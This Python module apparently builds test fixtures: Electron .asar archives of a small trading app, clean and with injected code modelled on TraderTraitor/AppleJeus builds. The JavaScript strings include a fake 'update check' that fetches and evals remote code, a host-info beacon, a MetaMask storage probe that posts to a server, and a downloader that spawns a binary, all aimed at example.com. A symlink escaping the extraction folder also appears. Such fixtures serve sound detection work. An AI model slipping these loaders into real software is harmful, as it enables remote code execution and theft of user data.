"""Harmless Electron ``.asar`` archives: a small app, and the same app with code injected the way
TraderTraitor/AppleJeus builds were (loaders that would fetch from example.com; never run)."""

from __future__ import annotations

import hashlib
import json
from typing import Any

_BLOCK = 4 * 1024 * 1024

PACKAGE_JSON = b'{"name": "example-trader", "version": "1.4.2", "main": "main.js"}\n'
MAIN_JS = b"""const { app, BrowserWindow } = require('electron');
const path = require('path');

function createWindow() {
  const win = new BrowserWindow({ width: 1024, height: 768,
    webPreferences: { preload: path.join(__dirname, 'preload.js') } });
  win.loadFile('index.html');
}

app.whenReady().then(createWindow);
app.on('window-all-closed', () => { if (process.platform !== 'darwin') app.quit(); });
"""
PRELOAD_JS = b"""const { contextBridge } = require('electron');
contextBridge.exposeInMainWorld('versions', { node: () => process.versions.node });
"""
INDEX_HTML = b"""<!doctype html><html><head><meta charset="utf-8">
<title>Example Trader</title></head><body><h1>Example Trader</h1>
<script src="renderer.js"></script></body></html>
"""
RENDERER_JS = b"""document.querySelector('h1').textContent += ' ' + window.versions.node();\n"""

LOADER_JS = b"""
// update check
const https = require('https');
https.get('https://example.com/update.js', (res) => {
  let body = '';
  res.on('data', (chunk) => { body += chunk; });
  res.on('end', () => { eval(body); });
});
"""
BEACON_JS = b"""
const os = require('os');
const https = require('https');
const info = JSON.stringify({ host: os.hostname(), user: os.userInfo().username,
  platform: os.platform(), release: os.release() });
const req = https.request('https://example.com/api/check', { method: 'POST' }, () => {});
req.write(info); req.end();
"""
WALLET_JS = b"""
const fs = require('fs');
const path = require('path');
const home = process.env.LOCALAPPDATA || '';
const store = path.join(home, 'Google/Chrome/User Data/Default/Local Extension Settings',
  'nkbihfbeogaeaoehlefnkodbefgpgknn');
fetch('https://example.com/upload', { method: 'POST', body: String(fs.existsSync(store)) });
"""
SECOND_STAGE_JS = b"""
const https = require('https');
const fs = require('fs');
const { spawn } = require('child_process');
const out = require('os').tmpdir() + '/updater';
https.get('https://example.com/updater.bin', (res) => {
  res.pipe(fs.createWriteStream(out)).on('finish', () => spawn(out, [], { detached: true }));
});
"""


def _obfuscated() -> bytes:
    names = [f"_0x{0x1A2B + i * 7:04x}" for i in range(30)]
    body = ";".join(f"var {n}=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f'][0]" for n in names)
    return body.encode() + b";\n"


def pack(
    files: dict[str, bytes] | dict[str, str],
    unpacked: tuple[str, ...] = (),
    integrity: bool = True,
    links: dict[str, str] | None = None,
) -> bytes:
    """An asar archive of ``files`` (``dir/name`` paths) as @electron/asar writes it;
    ``links`` maps link paths to their targets; text contents are written as UTF-8."""
    tree: dict[str, Any] = {"files": {}}
    for path, target in (links or {}).items():
        tree["files"][path] = {"link": target}
    data = b""
    for path, value in files.items():
        content = value.encode() if isinstance(value, str) else value
        node = tree
        parts = path.split("/")
        for part in parts[:-1]:
            node = node["files"].setdefault(part, {"files": {}})
        entry: dict[str, Any] = {"size": len(content)}
        if path in unpacked:
            entry["unpacked"] = True
        else:
            entry["offset"] = str(len(data))
            data += content
        if integrity:
            digest = hashlib.sha256(content).hexdigest()
            blocks = [
                hashlib.sha256(content[i : i + _BLOCK]).hexdigest()
                for i in range(0, max(1, len(content)), _BLOCK)
            ]
            entry["integrity"] = {
                "algorithm": "SHA256",
                "hash": digest,
                "blockSize": _BLOCK,
                "blocks": blocks,
            }
        node["files"][parts[-1]] = entry
    header = json.dumps(tree, separators=(",", ":")).encode()
    padded = header + b"\x00" * (-len(header) % 4)
    pickle = len(header).to_bytes(4, "little") + padded
    size_pickle = (len(pickle) + 4).to_bytes(4, "little")
    return (
        (4).to_bytes(4, "little") + size_pickle + len(pickle).to_bytes(4, "little") + pickle + data
    )


def app_files() -> dict[str, bytes]:
    return {
        "package.json": PACKAGE_JSON,
        "main.js": MAIN_JS,
        "preload.js": PRELOAD_JS,
        "index.html": INDEX_HTML,
        "renderer.js": RENDERER_JS,
    }


def clean_app() -> bytes:
    """A minimal Electron app."""
    return pack(app_files())


def injected_loader() -> bytes:
    """The app with an "update check" appended to main.js that evaluates fetched code."""
    files = app_files()
    files["main.js"] = MAIN_JS + LOADER_JS
    return pack(files)


def host_beacon() -> bytes:
    """The app with a module that posts the host name and user to a server."""
    return pack({**app_files(), "lib/telemetry.js": BEACON_JS})


def wallet_reader() -> bytes:
    """The app with code that looks for the MetaMask extension's storage and posts to a server."""
    return pack({**app_files(), "lib/sync.js": WALLET_JS})


def second_stage() -> bytes:
    """The app with code that downloads a program, writes it and starts it."""
    return pack({**app_files(), "lib/updater.js": SECOND_STAGE_JS})


def obfuscated() -> bytes:
    """The app with a javascript-obfuscator-style module (identifiers and strings only)."""
    return pack({**app_files(), "lib/vendor.js": _obfuscated()})


def tampered() -> bytes:
    """The app whose main.js was edited after packing (header integrity left as it was)."""
    good = clean_app()
    return good.replace(b"app.quit()", b"app.exit()")


def linked_outside() -> bytes:
    """An archive with a symbolic link that climbs out of the extraction folder."""
    return pack(app_files(), links={"tmp": "../../../tmp"})


def truncated(cut: int = 100) -> bytes:
    """The small app without its last ``cut`` bytes (members run past the end)."""
    data = clean_app()
    return data[: len(data) - cut]
